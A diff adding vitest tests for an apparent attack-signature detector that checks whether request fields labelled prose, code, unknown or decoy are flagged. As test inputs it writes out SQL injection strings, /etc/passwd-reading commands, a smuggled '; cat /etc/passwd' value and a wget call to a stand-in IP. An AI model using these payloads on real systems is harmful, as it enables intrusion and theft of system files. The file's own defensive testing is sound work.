@@ -1,0 +1,43 @@
+import { expect, test } from 'vitest';
+import type { FieldKind } from '../../src/attacks/field-kind.ts';
+import { findSignatures } from '../../src/attacks/find-signatures.ts';
+import { signatures } from '../../src/attacks/signatures/registry.gen.ts';
+
+const found = (text: string, kind: FieldKind): readonly string[] => {
+  const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'application/json' };
+  const body = JSON.stringify({ id: 7, comment: text });
+  return findSignatures({ ...request, body }, signatures, null, () => kind).matches.map(({ type }) => type);
+};
+
+/** Each quotes an attack for people to read. */
+const TALK: readonly string[] = [
+  "Typing ' or 1=1 -- into the form should show an error now, as we said in the meeting",
+  "You can try it with ' or 1=1 -- and look at what the page says then",
+  'Since the last release the file /etc/passwd is no longer read for the name of the user',
+  'This is what I get:\n```sh\ncd app; cat /etc/passwd | grep root\n```\nWhat can I do?',
+];
+
+test.each(TALK)('what people quote is no attack in a field of prose: %j', (text) => {
+  expect(found(text, 'prose')).toEqual([]);
+  expect(found(text, 'unknown')).not.toEqual([]);
+});
+
+test('a field of prose excuses words, not an attack without any', () => {
+  expect(found("1' UNION SELECT password FROM users-- ", 'prose')).toEqual(['sql_injection']);
+});
+
+test('lines of source are no attack in a field of code, a value on one line may be', () => {
+  const source = "const a = 1;\nrun('sh', ['-c', 'cat /etc/passwd']);\nexec('id');";
+  expect(found(source, 'code')).toEqual([]);
+  expect(found('; cat /etc/passwd', 'code')).toEqual(['command_injection']);
+});
+
+test('at a decoy nothing is taken from the certainty of a piece', () => {
+  const text = 'hello to all my friends ;wget http://203.0.113.9/a';
+  const confidence = (kind: FieldKind): number => {
+    const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'text/plain', body: text };
+    return findSignatures(request, signatures, null, () => kind).matches[0]?.confidence ?? 0;
+  };
+  expect(confidence('unknown')).toBeGreaterThanOrEqual(0.5);
+  expect(confidence('decoy')).toBeGreaterThan(confidence('unknown'));
+});
